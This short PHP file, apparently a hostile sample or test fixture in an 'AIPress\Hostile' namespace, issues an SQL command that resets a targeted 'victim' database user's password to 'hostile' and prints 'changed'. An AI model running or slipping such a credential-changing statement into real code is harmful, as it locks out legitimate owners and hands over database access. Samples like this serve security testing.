<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

ask("SET PASSWORD FOR '" . target()['victim']['database'] . "'@'localhost' = PASSWORD('hostile')");
echo 'changed';
